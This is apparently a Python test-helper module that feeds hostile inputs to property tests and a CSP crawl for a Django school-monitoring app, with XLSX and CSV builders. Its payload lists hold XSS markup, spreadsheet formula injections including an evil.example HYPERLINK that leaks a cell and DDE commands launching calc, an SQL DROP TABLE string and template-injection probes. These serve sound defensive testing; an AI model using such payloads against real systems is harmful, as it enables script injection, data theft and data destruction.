"""Hostile values for the property tests (tests/test_fuzz_*.py) and the CSP crawl.

What a careless or malicious user may put in a cell or a text field: markup that would run if it
were not escaped (each sets ``window.__xss``, so a browser test can tell), spreadsheet formulas,
control characters, template syntax, huge strings, impossible dates, numbers of the wrong kind.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from typing import Any

import openpyxl
from django.apps import apps
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Every payload flips this flag when it runs; the CSP crawl asserts it never does.
XSS_FLAG = "__xss"
MARKUP = [
    f"<script>window.{XSS_FLAG}=1</script>",
    f'<img src=x onerror="window.{XSS_FLAG}=1">',
    f'"><svg onload="window.{XSS_FLAG}=1">',
    f'\'><iframe srcdoc="<script>parent.{XSS_FLAG}=1</script>">',
    f'<a href="javascript:window.{XSS_FLAG}=1">ссылка</a>',
    f"<style>*{{background:url(javascript:window.{XSS_FLAG}=1)}}</style>",
    f'<div hx-get="/" hx-trigger="load" hx-on::after-request="window.{XSS_FLAG}=1">htmx</div>',
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Открыть")',
    "=1+1",
    "+7 (912) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
]
ODD = [
    "",
    " ",
    "\x00",
    "\x01\x02\x1b[31m",
    "\u202eтекст справа налево",
    "\ufeffБОМ",
    "строка\r\nдругая\rтретья",
    "\t",
    "'; DROP TABLE schools_staff; --",
    "{{ request.user.password }}",
    "{% debug %}",
    "%(name)s %s %d",
    "😀" * 40,
    "ё" * 301,
    "а" * 10_001,
    "NaN",
    "1e309",
    "-0",
    "0x1F",
    "31.02.2024",
    "00.00.0000",
    "9999-99-99",
    "01.01.0001",
    "29.02.2023",
    "01.09.2100",
    "да нет",
]
SAMPLES = MARKUP + FORMULAS + ODD

hostile_text = st.one_of(
    st.sampled_from(SAMPLES),
    st.text(max_size=80),
    st.builds(lambda a, b: a + b, st.sampled_from(SAMPLES), st.text(max_size=20)),
)

hostile_cell = st.one_of(
    hostile_text,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1900, 1, 1)),
)


def has_cyrillic(text: str) -> bool:
    return bool(re.search(r"[А-Яа-яЁё]", text))


# --- Database ---


def snapshot() -> dict[str, int]:
    """Row counts of every table of the project's apps: a partial write changes at least one."""
    counts = {}
    for label in ("schools", "programs", "monitoring"):
        for model in apps.get_app_config(label).get_models():
            counts[model._meta.label] = model._base_manager.count()
    return counts


# --- Files ---------------------------------------------------------------------------------------


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    """A workbook as Excel would save it; what no XLSX can hold (control characters) is dropped."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for values in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: list[list[Any]], *, encoding: str = "utf-8-sig", quoted: bool = True) -> bytes:
    """A CSV as Excel saves it (``quoted``) or as a hand-made file with no quoting at all."""
    cells = [["" if v is None else str(v) for v in row] for row in rows]
    if quoted:
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=";").writerows(cells)
        text = buffer.getvalue()
    else:
        text = "\n".join(";".join(row) for row in cells)
    return text.encode(encoding, errors="replace")
